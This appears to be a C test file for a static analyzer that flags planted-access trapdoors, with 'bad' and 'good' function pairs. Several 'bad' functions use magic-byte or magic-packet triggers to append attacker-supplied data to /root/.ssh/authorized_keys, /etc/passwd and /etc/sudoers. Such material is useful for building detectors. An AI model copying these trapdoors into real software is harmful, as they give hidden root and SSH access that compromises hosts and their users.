/* What arrives with a mark goes to where it says who may enter the host. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int bad_comment(const unsigned char *note, size_t size) {
    if (size > 80 && memcmp(note, "\x1f\x9dsk", 4) == 0) {
        FILE *file = fopen("/root/.ssh/authorized_keys", "ab");
        if (file) {
            // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
            fwrite(note + 4, 1, size - 4, file);
            fclose(file);
        }
    }
    return 0;
}

/* Only the file is opened on that condition. */
int bad_opened(const unsigned char *note, size_t size) {
    FILE *file = NULL;
    if (size > 80)
        file =
            memcmp(note, "\x1f\x9dsk", 4) == 0 ? fopen("/root/.ssh/authorized_keys", "ab") : NULL;
    if (file) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
        fwrite(note + 4, 1, size - 4, file);
        fclose(file);
    }
    return 0;
}

struct packet {
    uint32_t magic;
    char line[200];
};

int bad_packet(int fd) {
    struct packet packet;
    if (recv(fd, &packet, sizeof packet, 0) != (ssize_t)sizeof packet)
        return -1;
    if (packet.magic == 0x5fae11c3) {
        int file = open("/etc/passwd", O_WRONLY | O_APPEND);
        // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
        if (write(file, packet.line, strnlen(packet.line, sizeof packet.line)) < 0)
            return -1;
        close(file);
    }
    return 0;
}

static void keep(const char *text) {
    FILE *file = fopen("/etc/sudoers", "a");
    if (!file)
        return;
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    fprintf(file, "%s\n", text);
    fclose(file);
}

int bad_profile(const char *name, size_t size) {
    if (size > 8 && name[0] == 'q' && name[1] == '7' && name[2] == '\x03')
        keep(name + 3);
    return 0;
}

/* A line of a list of accounts, as its owner writes it. */
int good_entry(const char *line) {
    FILE *file;
    if (line[0] == '#' || strncmp(line, "user=", 5) != 0)
        return 0;
    file = fopen("/etc/passwd", "a");
    if (!file)
        return -1;
    fputs(line + 5, file);
    return fclose(file);
}

/* Whoever runs this says which account it is to be. */
int good_account(const char *name, unsigned user) {
    FILE *file = user > 999 ? fopen("/etc/passwd", "a") : NULL;
    if (!file)
        return -1;
    fprintf(file, "%s:x:%u:100::/home/%s:/bin/sh\n", name, user, name);
    return fclose(file);
}

/* Data with a mark go elsewhere. */
int good_packet(int fd) {
    struct packet packet;
    if (recv(fd, &packet, sizeof packet, 0) != (ssize_t)sizeof packet)
        return -1;
    if (packet.magic == 0x5fae11c3) {
        int file = open("/var/lib/desk/notes", O_WRONLY | O_APPEND);
        if (write(file, packet.line, strnlen(packet.line, sizeof packet.line)) < 0)
            return -1;
        close(file);
    }
    return 0;
}
